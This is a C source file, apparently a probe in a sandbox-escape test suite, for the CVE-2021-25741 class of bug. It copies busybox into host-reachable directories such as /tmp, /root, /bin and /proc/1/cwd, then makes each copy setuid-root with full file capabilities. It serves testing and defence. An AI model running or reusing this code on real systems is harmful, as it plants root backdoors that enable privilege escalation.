/* Leaves programs that are set-user-id root, with capabilities, where the host or others may run them (CVE-2021-25741's class). */
#include "common/attack.h"

static void attempt(void) {
    static const char *places[] = {"/tmp", "/run", "/dev/shm", "/root", "/bin", "/dev", "/dev/mqueue", "/proc/1/cwd"};
    struct vfs_cap_data caps = {VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, {{~0u, 0}, {~0u, 0}}};
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        char path[64], bytes[4096];
        snprintf(path, sizeof path, "%s/setuid-by-attacker", places[i]);
        int from = open("/bin/busybox", O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        printf("%s: %s\n", path, to < 0 ? strerror(errno) : "made");
        for (ssize_t len; to >= 0 && (len = read(from, bytes, sizeof bytes)) > 0;) {
            if (write(to, bytes, len) < 0) {
                break;
            }
        }
        close(from);
        if (to >= 0) {
            TRY(fchown(to, 0, 0));
            TRY(fsetxattr(to, "security.capability", &caps, XATTR_CAPS_SZ_2, 0));
            TRY(fchmod(to, 06777));
        }
        close(to);
    }
}
